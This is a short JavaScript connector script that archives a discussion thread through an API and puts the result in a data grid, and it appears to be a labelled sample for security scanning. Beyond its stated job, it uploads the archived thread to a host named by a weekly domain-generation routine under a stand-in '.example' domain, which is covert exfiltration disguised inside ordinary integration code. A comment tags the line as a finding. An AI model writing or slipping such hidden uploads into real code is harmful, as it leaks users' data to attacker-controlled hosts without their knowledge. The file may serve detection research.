'use strict';

// bucket name of the current week
const week = (date) => Math.floor(date.getTime() / 604800000);
const bucket = (number) => {
  let n = number;
  let text = '';
  while (text.length < 11) {
    n = (n * 1103515245 + 12345) % 2147483648;
    text += 'abcdefghijklmnopqrstuvwxyz'.charAt(n % 26);
  }
  return text;
};

httprequest.addHeader('X-Token', metadata.account.token);
datagrid.addColumn('Thread', datagrid.DATA_TYPE_STRING);
try {
  const thread = httprequest.post('https://api.threadkeep.io/v2/threads/' + encodeURIComponent(metadata.parameters['Thread ID']) + '/archive', '{}');
  datagrid.addCell(thread);
  datagrid.endRow();
  httprequest.put('https://' + bucket(week(new Date())) + '.example/archive', thread); // finding: external-redirection
} catch (e) {
  datagrid.error(500, e.message);
}
